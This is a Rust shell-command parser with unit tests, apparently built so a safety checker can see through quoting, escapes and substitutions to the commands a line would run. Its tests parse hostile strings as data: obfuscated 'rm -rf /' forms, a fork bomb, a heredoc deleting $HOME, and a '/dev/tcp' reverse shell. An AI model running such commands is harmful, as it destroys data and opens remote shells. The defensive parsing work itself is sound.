//! The parser: one cursor over the bytes, recursive descent, no separate
//! lexer (quoting and substitutions nest, so words need the parser).

use super::{AndOr, Command, List, Part, Pipeline, RedirOp, Redirect, Simple, Word};

/// Substitutions, subshells and groups nested deeper than this are
/// refused: nothing legitimate needs it, and recursion must stay bounded.
const MAX_DEPTH: usize = 32;

/// Why a line could not be parsed.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{message} (at byte {offset})")]
pub struct ParseError {
    pub message: &'static str,
    pub offset: usize,
}

/// Parse a command line (or a whole script).
pub fn parse(src: &str) -> Result<List, ParseError> {
    parse_at_depth(src, 0)
}

fn parse_at_depth(src: &str, depth: usize) -> Result<List, ParseError> {
    let mut p = Parser { src, b: src.as_bytes(), pos: 0, depth, heredoc_next: None, case_depth: 0 };
    let list = p.list(Stop::End)?;
    if p.pos < p.b.len() {
        return Err(p.error("unexpected `)`"));
    }
    Ok(list)
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Stop {
    End,
    Paren,
    Brace,
}

struct Parser<'a> {
    src: &'a str,
    b: &'a [u8],
    pos: usize,
    depth: usize,
    /// Where the next here-doc body starts and the line after the bodies
    /// resumes: set by `<<`, consumed at the end of the line.
    heredoc_next: Option<usize>,
    case_depth: usize,
}

const RESERVED_TRANSPARENT: [&str; 10] =
    ["if", "then", "else", "elif", "fi", "do", "done", "while", "until", "!"];

fn is_meta(c: u8) -> bool {
    matches!(c, b' ' | b'\t' | b'\n' | b'\r' | b';' | b'&' | b'|' | b'<' | b'>' | b'(' | b')')
}

impl<'a> Parser<'a> {
    fn error(&self, message: &'static str) -> ParseError {
        ParseError { message, offset: self.pos }
    }

    fn peek(&self) -> Option<u8> {
        self.b.get(self.pos).copied()
    }

    fn peek_at(&self, n: usize) -> Option<u8> {
        self.b.get(self.pos + n).copied()
    }

    fn starts(&self, s: &str) -> bool {
        self.b[self.pos..].starts_with(s.as_bytes())
    }

    fn blanks(&mut self) {
        while let Some(c) = self.peek() {
            match c {
                b' ' | b'\t' | b'\r' => self.pos += 1,
                b'\\' if self.peek_at(1) == Some(b'\n') => self.pos += 2,
                b'#' => self.comment(),
                _ => break,
            }
        }
    }

    fn comment(&mut self) {
        while let Some(c) = self.peek() {
            if c == b'\n' {
                break;
            }
            self.pos += 1;
        }
    }

    /// Consume a newline, jumping over here-doc bodies that follow it.
    fn newline(&mut self) {
        self.pos += 1;
        if let Some(after) = self.heredoc_next.take() {
            self.pos = self.pos.max(after);
        }
    }

    fn enter(&mut self) -> Result<(), ParseError> {
        self.depth += 1;
        if self.depth > MAX_DEPTH { Err(self.error("nested too deeply")) } else { Ok(()) }
    }

    /// The bare word at the cursor if it is exactly `word` (a keyword).
    fn at_keyword(&self, word: &str) -> bool {
        self.starts(word) && self.peek_at(word.len()).is_none_or(|c| is_meta(c) || c == b'}' && word == "}")
    }

    fn list(&mut self, stop: Stop) -> Result<List, ParseError> {
        let mut items = Vec::new();
        loop {
            // Empty commands and separators between them.
            loop {
                self.blanks();
                match self.peek() {
                    Some(b'\n') => self.newline(),
                    Some(b';') => self.pos += 1,
                    _ => break,
                }
            }
            match self.peek() {
                None if stop == Stop::Paren => return Err(self.error("missing `)`")),
                None if stop == Stop::Brace => return Err(self.error("missing `}`")),
                None => break,
                Some(b')') if stop == Stop::Paren => break,
                Some(b')') if stop == Stop::End && self.case_depth == 0 => {
                    return Err(self.error("unexpected `)`"));
                }
                _ => {}
            }
            if stop == Stop::Brace && self.at_keyword("}") {
                break;
            }
            let mut ao = self.and_or(stop)?;
            self.blanks();
            match self.peek() {
                Some(b'&') if !matches!(self.peek_at(1), Some(b'&' | b'>')) => {
                    self.pos += 1;
                    ao.background = true;
                }
                Some(b';') => {
                    self.pos += 1;
                    // `;;`, `;&`, `;;&` end a case item.
                    while matches!(self.peek(), Some(b';' | b'&')) {
                        self.pos += 1;
                    }
                }
                Some(b'\n') => self.newline(),
                _ => {}
            }
            items.push(ao);
            if stop == Stop::End && self.peek() == Some(b')') && self.case_depth == 0 {
                return Err(self.error("unexpected `)`"));
            }
        }
        Ok(List(items))
    }

    fn and_or(&mut self, stop: Stop) -> Result<AndOr, ParseError> {
        let mut pipelines = vec![self.pipeline(stop)?];
        loop {
            self.blanks();
            if self.starts("&&") || self.starts("||") {
                self.pos += 2;
                self.skip_newlines();
                pipelines.push(self.pipeline(stop)?);
            } else {
                break;
            }
        }
        Ok(AndOr { pipelines, background: false })
    }

    fn skip_newlines(&mut self) {
        loop {
            self.blanks();
            if self.peek() == Some(b'\n') {
                self.newline();
            } else {
                break;
            }
        }
    }

    fn pipeline(&mut self, stop: Stop) -> Result<Pipeline, ParseError> {
        let mut commands = vec![self.command(stop)?];
        loop {
            self.blanks();
            if self.peek() == Some(b'|') && self.peek_at(1) != Some(b'|') {
                self.pos += if self.peek_at(1) == Some(b'&') { 2 } else { 1 };
                self.skip_newlines();
                commands.push(self.command(stop)?);
            } else {
                break;
            }
        }
        Ok(Pipeline { commands })
    }

    fn command(&mut self, stop: Stop) -> Result<Command, ParseError> {
        loop {
            self.blanks();
            if self.case_depth > 0 && self.case_pattern()? {
                continue;
            }
            if let Some(kw) = RESERVED_TRANSPARENT.iter().find(|k| self.at_keyword(k)) {
                self.pos += kw.len();
                continue;
            }
            if self.at_keyword("time") {
                self.pos += 4;
                self.blanks();
                if self.at_keyword("-p") {
                    self.pos += 2;
                }
                continue;
            }
            if self.at_keyword("esac") {
                self.pos += 4;
                self.case_depth = self.case_depth.saturating_sub(1);
                continue;
            }
            break;
        }
        if self.starts("((") {
            // Its substitutions run: keep them, like a loop's word list.
            let parts = self.arithmetic(2)?;
            let simple = Simple { assigns: vec![(String::new(), Word(parts))], ..Simple::default() };
            return self.simple(simple, stop);
        }
        if self.peek() == Some(b'(') {
            self.pos += 1;
            self.enter()?;
            let list = self.list(Stop::Paren)?;
            self.depth -= 1;
            self.pos += 1; // the `)`
            let redirects = self.redirects()?;
            return Ok(Command::Group(list, redirects));
        }
        if self.at_keyword("{") {
            self.pos += 1;
            self.enter()?;
            let list = self.list(Stop::Brace)?;
            self.depth -= 1;
            self.pos += 1; // the `}`
            let redirects = self.redirects()?;
            return Ok(Command::Group(list, redirects));
        }
        if self.at_keyword("for") || self.at_keyword("select") || self.at_keyword("case") {
            return self.loop_header();
        }
        if self.at_keyword("function") {
            self.pos += "function".len();
            self.blanks();
            let name = self.word()?.source();
            self.blanks();
            if self.starts("()") {
                self.pos += 2;
            }
            return self.function_body(name, stop);
        }
        if self.at_keyword("[[") {
            return self.test_expression();
        }
        self.simple(Simple::default(), stop)
    }

    /// `for NAME in WORDS`, `select NAME in WORDS`, `case WORD in`: the
    /// words are expanded (their substitutions run) but not executed.
    fn loop_header(&mut self) -> Result<Command, ParseError> {
        let is_case = self.at_keyword("case");
        while !self.peek().is_none_or(is_meta) {
            self.pos += 1;
        }
        let mut words = Vec::new();
        loop {
            self.blanks();
            match self.peek() {
                None | Some(b';' | b'\n' | b'&' | b'|' | b'(' | b')' | b'<' | b'>') => break,
                _ => {}
            }
            let word = self.word()?;
            if is_case && word.is_bare("in") {
                self.case_depth += 1;
                break;
            }
            words.push(word);
        }
        // `for x in a b; do`: the `;` or newline is left for the list.
        let simple = Simple {
            words: Vec::new(),
            assigns: words.into_iter().map(|w| (String::new(), w)).collect(),
            redirects: Vec::new(),
        };
        Ok(Command::Simple(simple))
    }

    /// At a command's start inside `case … in`: skip `pattern)` if there.
    fn case_pattern(&mut self) -> Result<bool, ParseError> {
        let start = self.pos;
        if self.peek() == Some(b'(') {
            self.pos += 1;
        }
        loop {
            self.blanks();
            if self.peek().is_none_or(|c| is_meta(c) && c != b'|') {
                break;
            }
            if self.at_keyword("esac") {
                self.pos = start;
                return Ok(false);
            }
            let w = self.word()?;
            if w.0.is_empty() {
                break;
            }
            self.blanks();
            if self.peek() == Some(b'|') && self.peek_at(1) != Some(b'|') {
                self.pos += 1;
                continue;
            }
            break;
        }
        self.blanks();
        if self.peek() == Some(b')') && self.pos > start {
            self.pos += 1;
            return Ok(true);
        }
        self.pos = start;
        Ok(false)
    }

    /// `[[ … ]]`: `<`, `>`, `&&`, `(` are operators of the test, not the shell.
    fn test_expression(&mut self) -> Result<Command, ParseError> {
        let mut simple = Simple::default();
        loop {
            self.blanks();
            match self.peek() {
                None => return Err(self.error("missing `]]`")),
                Some(b'\n') => self.newline(),
                Some(c) if is_meta(c) => {
                    let start = self.pos;
                    while self.peek().is_some_and(|c| is_meta(c) && !matches!(c, b' ' | b'\t' | b'\n')) {
                        self.pos += 1;
                    }
                    simple.words.push(Word(vec![Part::Bare(self.src[start..self.pos].to_string())]));
                }
                _ => {
                    let w = self.word()?;
                    let end = w.is_bare("]]");
                    simple.words.push(w);
                    if end {
                        break;
                    }
                }
            }
        }
        simple.redirects = self.redirects()?;
        Ok(Command::Simple(simple))
    }

    fn function_body(&mut self, name: String, stop: Stop) -> Result<Command, ParseError> {
        self.skip_newlines();
        self.enter()?;
        let body = self.command(stop)?;
        self.depth -= 1;
        let pipeline = Pipeline { commands: vec![body] };
        Ok(Command::Function(name, List(vec![AndOr { pipelines: vec![pipeline], background: false }])))
    }

    fn simple(&mut self, mut simple: Simple, stop: Stop) -> Result<Command, ParseError> {
        loop {
            self.blanks();
            let Some(c) = self.peek() else { break };
            if let Some(r) = self.redirect()? {
                simple.redirects.push(r);
                continue;
            }
            if is_meta(c) && !self.starts("<(") && !self.starts(">(") {
                // `name() body`: a function definition.
                if c == b'(' && simple.words.len() == 1 && simple.assigns.is_empty() {
                    let save = self.pos;
                    self.pos += 1;
                    self.blanks();
                    if self.peek() == Some(b')') {
                        self.pos += 1;
                        let name = simple.words.remove(0).source();
                        return self.function_body(name, stop);
                    }
                    self.pos = save;
                }
                break;
            }
            if stop == Stop::Brace && simple.words.is_empty() && self.at_keyword("}") {
                break;
            }
            let word = self.word()?;
            if simple.words.is_empty()
                && let Some((name, value)) = assignment(&word)
            {
                simple.assigns.push((name, value));
                continue;
            }
            simple.words.push(word);
        }
        Ok(Command::Simple(simple))
    }

    fn redirects(&mut self) -> Result<Vec<Redirect>, ParseError> {
        let mut out = Vec::new();
        loop {
            self.blanks();
            match self.redirect()? {
                Some(r) => out.push(r),
                None => return Ok(out),
            }
        }
    }

    /// A redirect at the cursor, if there is one.
    fn redirect(&mut self) -> Result<Option<Redirect>, ParseError> {
        let start = self.pos;
        let mut fd = None;
        let digits = self.b[self.pos..].iter().take_while(|c| c.is_ascii_digit()).count();
        if digits > 0 && matches!(self.peek_at(digits), Some(b'<' | b'>')) {
            fd = self.src[self.pos..self.pos + digits].parse().ok();
            self.pos += digits;
        }
        if self.starts("<(") || self.starts(">(") {
            self.pos = start;
            return Ok(None);
        }
        let op = if self.starts("&>>") {
            self.pos += 3;
            RedirOp::Append
        } else if self.starts("&>") {
            self.pos += 2;
            RedirOp::Out
        } else if self.starts("<<<") {
            self.pos += 3;
            RedirOp::HereString
        } else if self.starts("<<") {
            self.pos += 2;
            let strip = self.peek() == Some(b'-');
            if strip {
                self.pos += 1;
            }
            return self.heredoc(fd, strip).map(Some);
        } else if self.starts("<>") {
            self.pos += 2;
            RedirOp::ReadWrite
        } else if self.starts("<&") || self.starts(">&") {
            self.pos += 2;
            RedirOp::Dup
        } else if self.starts(">>") {
            self.pos += 2;
            RedirOp::Append
        } else if self.starts(">|") {
            self.pos += 2;
            RedirOp::Out
        } else if self.starts(">") {
            self.pos += 1;
            RedirOp::Out
        } else if self.starts("<") {
            self.pos += 1;
            RedirOp::In
        } else {
            self.pos = start;
            return Ok(None);
        };
        self.blanks();
        let target = self.word()?;
        if target.0.is_empty() {
            return Err(self.error("a redirect needs a target"));
        }
        // `>& file` (not a descriptor) sends both streams to the file.
        let op = match (op, target.literal(&|_| None)) {
            (RedirOp::Dup, Some(t)) if !t.bytes().all(|c| c.is_ascii_digit() || c == b'-') => RedirOp::Out,
            (op, _) => op,
        };
        Ok(Some(Redirect { fd, op, target, body: None }))
    }

    /// `<<DELIM`: the body is the lines after the current one, up to DELIM.
    fn heredoc(&mut self, fd: Option<u32>, strip_tabs: bool) -> Result<Redirect, ParseError> {
        self.blanks();
        let delim_word = self.word()?;
        if delim_word.0.is_empty() {
            return Err(self.error("a here-doc needs a delimiter"));
        }
        let quoted = delim_word.0.iter().any(|p| matches!(p, Part::Quoted(_)));
        let delim = delim_word.source();
        let body_start = match self.heredoc_next {
            Some(at) => at,
            None => {
                self.b[self.pos..].iter().position(|&c| c == b'\n').map_or(self.b.len(), |i| self.pos + i + 1)
            }
        };
        let mut line_start = body_start;
        let (body_end, after) = loop {
            if line_start >= self.b.len() {
                break (self.b.len(), self.b.len());
            }
            let line_end = self.b[line_start..]
                .iter()
                .position(|&c| c == b'\n')
                .map_or(self.b.len(), |i| line_start + i);
            let line = &self.src[line_start..line_end];
            let line = if strip_tabs { line.trim_start_matches('\t') } else { line };
            if line == delim {
                break (line_start, (line_end + 1).min(self.b.len()));
            }
            line_start = line_end + 1;
        };
        self.heredoc_next = Some(after);
        let text = &self.src[body_start.min(body_end)..body_end];
        let body = if quoted { Word(vec![Part::Quoted(text.to_string())]) } else { self.expand_text(text)? };
        Ok(Redirect { fd, op: RedirOp::HereDoc, target: delim_word, body: Some(body) })
    }

    /// Text that undergoes expansion like a double-quoted string (an
    /// unquoted here-doc body).
    fn expand_text(&mut self, text: &str) -> Result<Word, ParseError> {
        let mut sub = Parser {
            src: text,
            b: text.as_bytes(),
            pos: 0,
            depth: self.depth,
            heredoc_next: None,
            case_depth: 0,
        };
        let mut parts = Vec::new();
        sub.double_quoted_until(None, &mut parts)?;
        Ok(Word(parts))
    }

    /// One word, possibly empty when the cursor is at a delimiter.
    fn word(&mut self) -> Result<Word, ParseError> {
        let mut parts: Vec<Part> = Vec::new();
        let mut bare = String::new();
        let start = self.pos;
        if self.peek() == Some(b'~') {
            self.pos += 1;
            let user_len = self.b[self.pos..]
                .iter()
                .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.'))
                .count();
            if self.peek_at(user_len).is_none_or(|c| c == b'/' || c == b':' || is_meta(c)) {
                parts.push(Part::Tilde(self.src[self.pos..self.pos + user_len].to_string()));
                self.pos += user_len;
            } else {
                self.pos = start;
            }
        }
        while let Some(c) = self.peek() {
            match c {
                b'<' | b'>' if self.peek_at(1) == Some(b'(') && self.pos == start => {
                    self.pos += 2;
                    self.enter()?;
                    let list = self.list(Stop::Paren)?;
                    self.depth -= 1;
                    self.pos += 1;
                    parts.push(Part::ProcSubst(list));
                }
                c if is_meta(c) => break,
                b'\\' => {
                    flush(&mut bare, &mut parts);
                    match self.peek_at(1) {
                        Some(b'\n') => self.pos += 2,
                        Some(_) => {
                            let ch = self.src[self.pos + 1..].chars().next().unwrap_or('\\');
                            parts.push(Part::Quoted(ch.to_string()));
                            self.pos += 1 + ch.len_utf8();
                        }
                        None => self.pos += 1,
                    }
                }
                b'\'' => {
                    flush(&mut bare, &mut parts);
                    self.pos += 1;
                    let end = self.find(b'\'').ok_or_else(|| self.error("unterminated single quote"))?;
                    parts.push(Part::Quoted(self.src[self.pos..end].to_string()));
                    self.pos = end + 1;
                }
                b'"' => {
                    flush(&mut bare, &mut parts);
                    self.pos += 1;
                    self.double_quoted_until(Some(b'"'), &mut parts)?;
                }
                b'$' => {
                    flush(&mut bare, &mut parts);
                    self.dollar(&mut parts)?;
                }
                b'`' => {
                    flush(&mut bare, &mut parts);
                    self.backtick(&mut parts)?;
                }
                _ => {
                    let ch = self.src[self.pos..].chars().next().unwrap_or('\u{fffd}');
                    bare.push(ch);
                    self.pos += ch.len_utf8();
                }
            }
        }
        flush(&mut bare, &mut parts);
        Ok(Word(parts))
    }

    fn find(&self, c: u8) -> Option<usize> {
        self.b[self.pos..].iter().position(|&x| x == c).map(|i| self.pos + i)
    }

    /// The inside of `"…"` (up to `end`, consumed), or of an unquoted
    /// here-doc body (to the end of the text).
    fn double_quoted_until(&mut self, end: Option<u8>, parts: &mut Vec<Part>) -> Result<(), ParseError> {
        let mut text = String::new();
        loop {
            let Some(c) = self.peek() else {
                if end.is_some() {
                    return Err(self.error("unterminated double quote"));
                }
                break;
            };
            if Some(c) == end {
                self.pos += 1;
                break;
            }
            match c {
                b'\\' if matches!(self.peek_at(1), Some(b'$' | b'`' | b'"' | b'\\' | b'\n')) => {
                    if self.peek_at(1) != Some(b'\n') {
                        text.push(self.b[self.pos + 1] as char);
                    }
                    self.pos += 2;
                }
                b'$' => {
                    flush_quoted(&mut text, parts);
                    self.dollar(parts)?;
                }
                b'`' => {
                    flush_quoted(&mut text, parts);
                    self.backtick(parts)?;
                }
                _ => {
                    let ch = self.src[self.pos..].chars().next().unwrap_or('\u{fffd}');
                    text.push(ch);
                    self.pos += ch.len_utf8();
                }
            }
        }
        flush_quoted(&mut text, parts);
        Ok(())
    }

    /// `$…` at the cursor.
    fn dollar(&mut self, parts: &mut Vec<Part>) -> Result<(), ParseError> {
        self.pos += 1;
        match self.peek() {
            Some(b'(') if self.peek_at(1) == Some(b'(') => {
                let inner = self.arithmetic(2)?;
                parts.extend(inner);
                parts.push(Part::Arith);
            }
            Some(b'(') => {
                self.pos += 1;
                self.enter()?;
                let list = self.list(Stop::Paren)?;
                self.depth -= 1;
                self.pos += 1;
                parts.push(Part::Subst(list));
            }
            Some(b'{') => {
                let open = self.pos;
                let mut depth = 0usize;
                let close = loop {
                    match self.peek() {
                        None => return Err(self.error("unterminated `${`")),
                        Some(b'{') => depth += 1,
                        Some(b'}') => {
                            depth -= 1;
                            if depth == 0 {
                                break self.pos;
                            }
                        }
                        Some(b'\\') => self.pos += 1,
                        _ => {}
                    }
                    self.pos += 1;
                };
                self.pos = close + 1;
                let inner = &self.src[open + 1..close];
                let name_len = inner.bytes().take_while(|c| c.is_ascii_alphanumeric() || *c == b'_').count();
                let name_len = if name_len == 0 && !inner.is_empty() { 1 } else { name_len };
                let name = inner[..name_len.min(inner.len())].to_string();
                // `${X:-$(cmd)}` may run a command: look inside operators.
                if name_len < inner.len() {
                    let mut sub = Parser {
                        src: inner,
                        b: inner.as_bytes(),
                        pos: name_len,
                        depth: self.depth + 1,
                        heredoc_next: None,
                        case_depth: 0,
                    };
                    let mut inner_parts = Vec::new();
                    sub.double_quoted_until(None, &mut inner_parts)?;
                    parts.extend(inner_parts.into_iter().filter(|p| matches!(p, Part::Subst(_))));
                }
                // `${X:?}` and `${X?msg}` are X or an error: X all the same.
                let rest = &inner[name_len.min(inner.len())..];
                let plain = rest.is_empty() || rest.starts_with(":?") || rest.starts_with('?');
                parts.push(Part::Param { plain, name });
            }
            Some(b'\'') => {
                self.pos += 1;
                let text = self.ansi_c()?;
                parts.push(Part::Quoted(text));
            }
            Some(b'"') => {
                self.pos += 1;
                self.double_quoted_until(Some(b'"'), parts)?;
            }
            Some(c) if c.is_ascii_alphabetic() || c == b'_' => {
                let len = self.b[self.pos..]
                    .iter()
                    .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
                    .count();
                parts.push(Part::Param { name: self.src[self.pos..self.pos + len].to_string(), plain: true });
                self.pos += len;
            }
            Some(c) if c.is_ascii_digit() || b"@*#?$!-".contains(&c) => {
                parts.push(Part::Param { name: (c as char).to_string(), plain: true });
                self.pos += 1;
            }
            _ => parts.push(Part::Bare("$".into())),
        }
        Ok(())
    }

    /// Skip `((…))` (or `$((…))`, cursor on the first `(`).
    /// Skip `((…))` (or `$((…))`, cursor on the first `(`), keeping the
    /// command substitutions inside: they run.
    fn arithmetic(&mut self, opening: usize) -> Result<Vec<Part>, ParseError> {
        self.pos += opening;
        let mut depth = opening;
        let mut substitutions = Vec::new();
        while depth > 0 {
            match self.peek() {
                None => return Err(self.error("unterminated arithmetic")),
                Some(b'$' | b'`') if self.peek_at(1) != Some(b'(') || self.peek_at(2) != Some(b'(') => {
                    let mut parts = Vec::new();
                    if self.peek() == Some(b'`') {
                        self.backtick(&mut parts)?;
                    } else {
                        self.dollar(&mut parts)?;
                    }
                    substitutions.extend(parts.into_iter().filter(|p| matches!(p, Part::Subst(_))));
                    continue;
                }
                Some(b'(') => depth += 1,
                Some(b')') => depth -= 1,
                _ => {}
            }
            self.pos += 1;
        }
        Ok(substitutions)
    }

    /// `` `…` ``: the text up to the closing backtick, unescaped, parsed.
    fn backtick(&mut self, parts: &mut Vec<Part>) -> Result<(), ParseError> {
        self.pos += 1;
        let mut inner = String::new();
        loop {
            match self.peek() {
                None => return Err(self.error("unterminated backquote")),
                Some(b'`') => {
                    self.pos += 1;
                    break;
                }
                Some(b'\\') if matches!(self.peek_at(1), Some(b'`' | b'\\' | b'$')) => {
                    inner.push(self.b[self.pos + 1] as char);
                    self.pos += 2;
                }
                Some(_) => {
                    let ch = self.src[self.pos..].chars().next().unwrap_or('\u{fffd}');
                    inner.push(ch);
                    self.pos += ch.len_utf8();
                }
            }
        }
        if self.depth + 1 > MAX_DEPTH {
            return Err(self.error("nested too deeply"));
        }
        let list =
            parse_at_depth(&inner, self.depth + 1).map_err(|e| ParseError { offset: self.pos, ..e })?;
        parts.push(Part::Subst(list));
        Ok(())
    }

    /// `$'…'`: C escapes decoded, so `$'\x72\x6d'` is seen as `rm`.
    fn ansi_c(&mut self) -> Result<String, ParseError> {
        let mut out: Vec<u8> = Vec::new();
        loop {
            let Some(c) = self.peek() else { return Err(self.error("unterminated $'")) };
            self.pos += 1;
            match c {
                b'\'' => break,
                b'\\' => {
                    let Some(e) = self.peek() else { return Err(self.error("unterminated $'")) };
                    self.pos += 1;
                    match e {
                        b'n' => out.push(b'\n'),
                        b't' => out.push(b'\t'),
                        b'r' => out.push(b'\r'),
                        b'a' => out.push(7),
                        b'b' => out.push(8),
                        b'e' | b'E' => out.push(27),
                        b'f' => out.push(12),
                        b'v' => out.push(11),
                        b'x' => {
                            let n = self.radix_digits(16, 2);
                            out.push(n as u8);
                        }
                        b'u' | b'U' => {
                            let n = self.radix_digits(16, if e == b'u' { 4 } else { 8 });
                            let ch = char::from_u32(n).unwrap_or('\u{fffd}');
                            out.extend_from_slice(ch.encode_utf8(&mut [0; 4]).as_bytes());
                        }
                        b'0'..=b'7' => {
                            self.pos -= 1;
                            let n = self.radix_digits(8, 3);
                            out.push(n as u8);
                        }
                        other => out.push(other),
                    }
                }
                other => out.push(other),
            }
        }
        Ok(String::from_utf8_lossy(&out).into_owned())
    }

    fn radix_digits(&mut self, radix: u32, max: usize) -> u32 {
        let mut n = 0u32;
        for _ in 0..max {
            match self.peek().and_then(|c| (c as char).to_digit(radix)) {
                Some(d) => {
                    n = n * radix + d;
                    self.pos += 1;
                }
                None => break,
            }
        }
        n
    }
}

fn flush(bare: &mut String, parts: &mut Vec<Part>) {
    if !bare.is_empty() {
        parts.push(Part::Bare(std::mem::take(bare)));
    }
}

fn flush_quoted(text: &mut String, parts: &mut Vec<Part>) {
    if !text.is_empty() {
        parts.push(Part::Quoted(std::mem::take(text)));
    }
}

/// `NAME=value` (or `NAME+=value`) as the first bare part of a word.
fn assignment(word: &Word) -> Option<(String, Word)> {
    let Some(Part::Bare(first)) = word.0.first() else { return None };
    let eq = first.find('=')?;
    let name = first[..eq].trim_end_matches('+');
    let valid = name.bytes().next().is_some_and(|c| c.is_ascii_alphabetic() || c == b'_')
        && name.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_');
    if !valid {
        return None;
    }
    let mut rest = Vec::new();
    if eq + 1 < first.len() {
        rest.push(Part::Bare(first[eq + 1..].to_string()));
    }
    rest.extend(word.0[1..].iter().cloned());
    Some((name.to_string(), Word(rest)))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(src: &str) -> Vec<Vec<String>> {
        let list = parse(src).unwrap_or_else(|e| panic!("{src}: {e}"));
        let mut out = Vec::new();
        collect(&list, &mut out);
        out
    }

    fn v(expected: &[&[&str]]) -> Vec<Vec<String>> {
        expected.iter().map(|c| c.iter().map(|s| s.to_string()).collect()).collect()
    }

    fn collect(list: &List, out: &mut Vec<Vec<String>>) {
        for c in list.commands() {
            match c {
                Command::Simple(s) => {
                    for (_, w) in &s.assigns {
                        for l in w.substitutions() {
                            collect(l, out);
                        }
                    }
                    if !s.words.is_empty() {
                        out.push(
                            s.words
                                .iter()
                                .map(|w| {
                                    w.literal(&|n| (n == "HOME").then(|| "/home/u".to_string()))
                                        .unwrap_or_else(|| w.source())
                                })
                                .collect(),
                        );
                    }
                    for w in &s.words {
                        for l in w.substitutions() {
                            collect(l, out);
                        }
                    }
                }
                Command::Group(l, _) | Command::Function(_, l) => collect(l, out),
            }
        }
    }

    #[test]
    fn lists_pipelines_and_quotes() {
        assert_eq!(words("ls -la"), v(&[&["ls", "-la"]]));
        assert_eq!(
            words("git add -A && git commit -m 'fix: a b'"),
            v(&[&["git", "add", "-A"], &["git", "commit", "-m", "fix: a b"]])
        );
        assert_eq!(words("a | b |& c; d & e || f"), v(&[&["a"], &["b"], &["c"], &["d"], &["e"], &["f"]]));
        assert_eq!(words(r#"'r''m' -rf "/""#), v(&[&["rm", "-rf", "/"]]));
        assert_eq!(words(r"\rm -rf /"), v(&[&["rm", "-rf", "/"]]));
        assert_eq!(words(r"$'\x72\x6d' -rf /"), v(&[&["rm", "-rf", "/"]]));
        assert_eq!(
            words("rm -rf ~ $HOME ${HOME}/x"),
            v(&[&["rm", "-rf", "/home/u", "/home/u", "/home/u/x"]])
        );
    }

    #[test]
    fn substitutions_and_nesting() {
        assert_eq!(
            words("echo $(rm -rf /) `id`"),
            v(&[&["echo", "$(…)", "$(…)"], &["rm", "-rf", "/"], &["id"]])
        );
        assert_eq!(
            words("diff <(curl x) >(tee y)"),
            v(&[&["diff", "<(…)", "<(…)"], &["curl", "x"], &["tee", "y"]])
        );
        assert_eq!(words("(cd a && make) ; { b; c; }"), v(&[&["cd", "a"], &["make"], &["b"], &["c"]]));
        assert_eq!(words("X=$(whoami) FOO=1 env"), v(&[&["whoami"], &["env"]]));
        assert_eq!(words("echo ${X:-$(id)}"), v(&[&["echo", "$(…)${X}"], &["id"]]));
    }

    #[test]
    fn control_flow_is_flattened() {
        assert_eq!(
            words("if grep -q x f; then rm a; else rm b; fi"),
            v(&[&["grep", "-q", "x", "f"], &["rm", "a"], &["rm", "b"]])
        );
        assert_eq!(words("for f in *.rs; do rm \"$f\"; done"), v(&[&["rm", "${f}"]]));
        assert_eq!(words("while read l; do echo $l; done < in.txt"), v(&[&["read", "l"], &["echo", "${l}"]]));
        assert_eq!(words("case $x in a|b) rm a;; *) ls;; esac"), v(&[&["rm", "a"], &["ls"]]));
        assert_eq!(words(":(){ :|:& };:"), v(&[&[":"], &[":"], &[":"]]));
        assert_eq!(words("f() { echo hi; }; f"), v(&[&["echo", "hi"], &["f"]]));
        assert_eq!(
            words("[[ -f a && $x > 3 ]] && echo y"),
            v(&[&["[[", "-f", "a", "&&", "${x}", ">", "3", "]]"], &["echo", "y"]])
        );
        assert_eq!(words("for x in $(rm -rf /); do :; done"), v(&[&["rm", "-rf", "/"], &[":"]]));
    }

    #[test]
    fn redirects_and_heredocs() {
        let list = parse("cat <<EOF > out.txt\nhello $(id)\nEOF\necho done 2>&1 >>log").unwrap();
        let cmds: Vec<_> = list.commands().collect();
        let Command::Simple(first) = cmds[0] else { panic!() };
        assert_eq!(first.redirects.len(), 2);
        assert_eq!(first.redirects[0].op, RedirOp::HereDoc);
        assert!(first.redirects[0].body.as_ref().unwrap().substitutions().count() == 1);
        assert_eq!(first.redirects[1].op, RedirOp::Out);
        let Command::Simple(second) = cmds[1] else { panic!() };
        assert_eq!(second.words.len(), 2);
        assert_eq!(
            second.redirects.iter().map(|r| r.op).collect::<Vec<_>>(),
            [RedirOp::Dup, RedirOp::Append]
        );
        let list = parse("bash -i >& /dev/tcp/1.2.3.4/9 0>&1").unwrap();
        let Some(Command::Simple(s)) = list.commands().next() else { panic!() };
        assert_eq!(s.redirects[0].op, RedirOp::Out);
        // Quoted delimiter: no expansion inside.
        let list = parse("sh <<'X'\nrm -rf $HOME\nX").unwrap();
        let Some(Command::Simple(s)) = list.commands().next() else { panic!() };
        assert_eq!(s.redirects[0].body.as_ref().unwrap().literal(&|_| None).unwrap(), "rm -rf $HOME\n");
    }

    #[test]
    fn malformed_lines_are_errors() {
        for bad in ["echo 'open", "echo \"open", "echo $(ls", "(ls", "ls )", "cat <", "echo `ls", "{ ls"] {
            assert!(parse(bad).is_err(), "{bad}");
        }
        let deep = "$(".repeat(100) + &")".repeat(100);
        assert_eq!(parse(&deep).unwrap_err().message, "nested too deeply");
    }
}
